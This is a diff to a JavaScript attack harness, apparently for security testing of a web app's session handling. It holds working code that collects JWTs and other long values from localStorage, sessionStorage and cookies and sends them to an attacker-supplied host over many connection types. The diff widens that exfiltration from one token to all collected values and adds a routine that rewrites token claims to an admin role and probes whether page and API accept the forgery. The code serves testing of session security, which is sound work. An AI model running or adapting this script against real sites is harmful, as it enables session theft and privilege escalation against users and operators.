@@ -11,19 +11,80 @@ export function run(client) {
     "read-tokens/0": () => read(),
     "send-policy/0": ({ to }) => send(to, "policy "),
     "send-policy/1": async ({ page }) => {
-      location.href = `${page}&by=${encodeURIComponent("policy navigation")}&loot=${encodeURIComponent(best(await read()).slice(0, 4000))}`;
+      location.href = `${page}&by=${encodeURIComponent("policy navigation")}&loot=${encodeURIComponent(packed(await read()))}`;
       return leaving;
     },
     "send-open/0": ({ to }) => send(to, "open "),
     "live-session/0": ({ email }) => write(client, email),
+    "edit-role/0": () => editRole(client),
+    "forge-cookie/0": nothing,
+    "login-csrf/1": nothing,
+    "toss-cookie/1": () => me(client),
+    "stolen-profile/0": onDisk,
+    "stolen-store/0": nothing,
+    "shared-cache/0": onDisk,
+    "replay-logout/0": onDisk,
+    "replay-logout/1": () => leave(client),
     "leave/0": () => leave(client),
   });
+}
+
+/** What is done here is done elsewhere, with the cookies that come along. */
+const nothing = async () => ({});
+
+/** Stands in for a look at the profile's files: what the browser keeps of the storages. */
+const onDisk = async () => ({ stored: [localStorage, sessionStorage].flatMap((storage) => kept(storage).split("\n")).filter((value) => value.length > 20) });
+
+async function me(client) {
+  const answer = await client.fetch("/api/me").catch(() => ({}));
+  return answer.ok ? answer.json() : { status: answer.status };
+}
+
+/** Makes an administrator of the person in every copy of the claims that script can write, and asks what page and API make of it. */
+async function editRole(client) {
+  const edited = [];
+  const restore = [];
+  const other = (token) => {
+    const parts = token.split(".");
+    const claims = JSON.parse(atob(parts[1].replaceAll("-", "+").replaceAll("_", "/")));
+    parts[1] = btoa(JSON.stringify({ ...claims, role: "admin" })).replaceAll("+", "-").replaceAll("/", "_").replaceAll("=", "");
+    return parts.join(".");
+  };
+  for (const storage of [localStorage, sessionStorage]) {
+    for (const [key, value] of Object.entries(storage)) {
+      if (!value.startsWith("eyJ")) continue;
+      storage.setItem(key, other(value));
+      restore.push(() => storage.setItem(key, value));
+      edited.push(key);
+    }
+  }
+  for (const pair of document.cookie.split("; ")) {
+    const [name, value = ""] = pair.split("=");
+    if (!value.startsWith("eyJ")) continue;
+    const write = (text) => (document.cookie = `${name}=${text}; Path=/; Max-Age=60${name === "token" ? "" : "; SameSite=Strict"}${location.protocol === "https:" ? "; Secure" : ""}`);
+    write(other(value));
+    restore.push(() => write(value));
+    edited.push(name);
+  }
+  try {
+    const page = readable() ?? (await client.session().catch(() => ({}))).user?.role;
+    const api = (await me(client)).role;
+    return { edited: edited.join(", "), page: page ?? "", api: api ?? "" };
+  } finally {
+    for (const undo of restore) undo();
+  }
+}
+
+/** The role as a page reads it that takes the claims from where script can read them. */
+function readable() {
+  const token = [kept(localStorage), kept(sessionStorage), document.cookie.replaceAll(/[=;]/g, "\n")].join("\n").match(/eyJ[\w-]+\.[\w-]+/)?.[0];
+  return token && JSON.parse(atob(token.split(".")[1].replaceAll("-", "+").replaceAll("_", "/"))).role;
 }
 
 /** Not an attack: signs out, as the app does. */
 async function leave(client) {
   if (client.end) return client.end();
-  const { csrf_token = "1" } = await client.session();
+  const { csrf_token = "1" } = await client.session().catch(() => ({}));
   const { status } = await fetch("/auth/logout", { method: "POST", headers: { "X-CSRF-Token": csrf_token, Accept: "application/json" } });
   return { status };
 }
@@ -56,15 +117,14 @@ async function read() {
   for (const [where, look] of Object.entries(places)) {
     const all = String(await Promise.resolve().then(look).catch(() => ""));
     const found = new Set(all.match(jwt) ?? []);
-    if (where.endsWith("Storage")) for (const value of Object.values(window[where])) if (value.length > 20) found.add(value);
+    if (where.endsWith("Storage")) for (const value of all.split("\n")) if (value.length > 20) found.add(value);
     for (const what of found) loot.push({ where, what: what.slice(0, 4000) });
   }
   return loot.slice(0, 40);
 }
 
-/** The best of the loot: a whole token, else a part of one, else nothing. */
-const best = (loot) =>
-  loot.find(({ what }) => what.split(".").length === 3)?.what ?? loot.find(({ what }) => what.startsWith("eyJ"))?.what ?? "nothing";
+/** All of the loot in one text. */
+const packed = (loot) => [...new Set(loot.map(({ what }) => what))].join("\n").slice(0, 6000) || "nothing";
 
 /** Patches what the app sends with, and returns the headers and answers that went by while it acted. */
 async function listenIn(act) {
@@ -132,9 +192,9 @@ async function asked(path, method) {
   return (await fetch(path, { method, headers: { "X-CSRF-Token": "1" } })).text();
 }
 
-/** Sends the best of the loot to the attacker's host by every kind of connection that a page can make. */
+/** Sends the loot to the attacker's host by every kind of connection that a page can make. */
 async function send(to, prefix) {
-  const loot = best(await read());
+  const loot = packed(await read());
   const address = (by) => `${to}&by=${encodeURIComponent(prefix + by)}&loot=${encodeURIComponent(loot)}`;
   const element = (name, attributes) =>
     new Promise((done) => {
